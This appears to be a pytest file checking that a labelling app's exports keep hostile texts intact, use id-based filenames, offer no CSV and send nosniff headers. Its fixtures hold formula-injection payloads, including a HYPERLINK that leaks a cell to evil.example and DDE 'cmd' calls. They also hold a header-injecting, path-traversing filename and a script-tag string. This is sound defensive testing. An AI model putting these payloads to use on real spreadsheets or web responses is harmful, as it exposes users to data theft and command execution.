"""Exports and downloads with hostile names and texts: filenames built from ids only, no CSV (so no
spreadsheet formulas), every text exported byte for byte, one JSON object per line whatever the
text holds, and the headers that stop a browser from sniffing an export into a page."""

from __future__ import annotations

import io
import json
import re

import pyarrow.parquet as pq
import pytest

from app.models import Role
from tests.admin.helpers import admin_client
from tests.factories import make_project, make_ranking, make_task, make_user
from tests.rounds.helpers import make_version

NAME = 'Q3 "final"\r\nContent-Type: text/html\n../../etc/passwd ü \u202etxt.exe'
# Leading =, +, -, @, tab and CR are what a spreadsheet reads as a formula; the rest is line and
# direction trickery. All are data here, and must come back exactly as uploaded.
TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "line\u2028separator\u2029paragraph\x85next",
    "<script>alert(1)</script> \u202eabc \u200b\ufeff",
]
EXPORTS = [
    ("rankings", {}),
    ("consensus", {}),
    ("pairs", {"style": "standard"}),
    ("pairs", {"style": "conversational"}),
]


@pytest.fixture
def hostile(db):
    project = make_project(db, name=NAME, overlap=1)
    task = make_task(db, project, texts=TEXTS, prompt_text="=cmd|' /C calc'!A0 \u2028 <b>x</b>")
    make_ranking(
        db,
        task,
        make_user(db, role=Role.labeler, projects=[project]),
        [[c] for c in task.completion_ids],
        comment="@comment\u2028=1",
    )
    return project


@pytest.mark.parametrize("kind, params", EXPORTS, ids=["rankings", "consensus", "pairs", "pairs-conv"])
def test_jsonl_exports_are_named_by_id_and_keep_every_text(client, hostile, export_auth, kind, params):
    response = client.get(f"/api/v1/projects/{hostile.id}/exports/{kind}", params=params, headers=export_auth)
    assert response.status_code == 200, response.text
    suffix = f"-{params['style']}" if params else ""
    name = f"project-{hostile.id}-{kind}{suffix}.jsonl"
    assert response.headers["content-disposition"] == f'attachment; filename="{name}"'
    assert response.headers["content-type"].startswith("application/x-ndjson")
    assert response.headers["x-content-type-options"] == "nosniff"
    # One object per "\n"-terminated line, even for texts with U+2028, U+2029 or U+0085 in them.
    assert response.text.endswith("\n") and response.text.splitlines() == response.text[:-1].split("\n")
    rows = [json.loads(line) for line in response.text[:-1].split("\n")]
    exported = json.dumps(rows, ensure_ascii=False)
    for text in TEXTS:
        assert json.dumps(text, ensure_ascii=False)[1:-1] in exported, text  # exactly as stored, not "neutralised"


@pytest.mark.parametrize("kind, params", EXPORTS, ids=["rankings", "consensus", "pairs", "pairs-conv"])
def test_parquet_exports_are_named_by_id_and_keep_every_text(client, hostile, export_auth, kind, params):
    response = client.get(
        f"/api/v1/projects/{hostile.id}/exports/{kind}", params={**params, "format": "parquet"}, headers=export_auth
    )
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    assert re.fullmatch(rf'attachment; filename="project-{hostile.id}-{kind}(-\w+)?\.parquet"', disposition)
    table = pq.read_table(io.BytesIO(response.content)).to_pylist()
    exported = json.dumps(table, ensure_ascii=False, default=str)
    assert any(json.dumps(t, ensure_ascii=False)[1:-1] in exported for t in TEXTS)
    if kind == "rankings":
        assert sorted(c["text"] for c in table[0]["completions"]) == sorted(TEXTS)


def test_no_csv_export_is_offered(client, hostile, export_auth):
    response = client.get(
        f"/api/v1/projects/{hostile.id}/exports/rankings", params={"format": "csv"}, headers=export_auth
    )
    assert response.status_code == 422 and "format" in response.json()["message"]
    asked = client.get(f"/api/v1/projects/{hostile.id}/exports/rankings", headers={**export_auth, "Accept": "text/csv"})
    assert asked.headers["content-type"].startswith("application/x-ndjson")
    formats = client.get("/openapi.json").json()["components"]["schemas"]["ExportFormat"]["enum"]
    assert formats == ["jsonl", "parquet"]


def test_model_download_name_is_built_from_the_id_and_a_slug(client, db, settings):
    admin_client(client, db)
    project = make_project(db, name=NAME)
    folder = settings.artifacts_dir / "run"
    folder.mkdir(parents=True)
    (folder / "card.json").write_text("{}")
    version = make_version(db, project, kind='x"\r\n../ü;=', name=NAME, artifact_path=str(folder))
    response = client.get(f"/admin/models/{version.id}/download")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == f'attachment; filename="model-{version.id}-x.zip"'
    assert response.headers["x-content-type-options"] == "nosniff"
